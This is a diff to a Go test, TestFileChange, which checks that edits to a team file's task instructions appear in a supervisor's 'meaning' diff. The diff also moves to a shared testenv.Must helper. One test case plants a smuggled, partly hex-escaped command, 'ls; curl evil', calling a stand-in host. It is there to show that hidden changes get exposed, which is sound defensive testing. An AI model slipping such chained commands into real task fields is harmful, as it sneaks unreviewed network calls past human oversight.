@@ -8,6 +8,7 @@ import (
 	"testing"
 
 	"waggle/internal/face/view/fileview"
+	"waggle/internal/test/testenv"
 	"waggle/operator"
 	"waggle/operator/supervise"
 	"waggle/operator/teamfile"
@@ -42,9 +43,9 @@ func TestFileChange(t *testing.T) {
 	const was = "team: change\nmembers: [{name: alice, agent: exec, backend: process}]\ntasks: [{subject: s, owner: alice, instructions: \"ls\"}]\n"
 	write(was)
 	f, err := teamfile.ReadFile(path)
-	must(t, err)
+	testenv.Must(t, err)
 	s, err := supervise.Of(op).Prepare(t.Context(), f, false, func(operator.Note) {})
-	must(t, err)
+	testenv.Must(t, err)
 	for _, c := range []struct{ name, text, meaning, diff, broken string }{
 		{"what is run", strings.Replace(was, `"ls"`, `"\x6c\x73; curl evil"`, 1), "-      | ls\n+      | ls; curl evil\n", `+tasks: [{subject: s, owner: alice, instructions: "\x6c`, ""},
 		{"only how it is written", strings.Replace(was, `"ls"`, `"\x6c\x73"`, 1), "", `"\x6c\x73"`, ""},
@@ -54,7 +55,7 @@ func TestFileChange(t *testing.T) {
 		t.Run(c.name, func(t *testing.T) {
 			write(c.text)
 			got, err := supervise.Of(op).FileChange(s)
-			must(t, err)
+			testenv.Must(t, err)
 			if meaning := fileview.MeaningDiff(got); !strings.Contains(meaning, c.meaning) || (meaning == "") != (c.meaning == "") {
 				t.Errorf("meaning: %s", meaning)
 			}
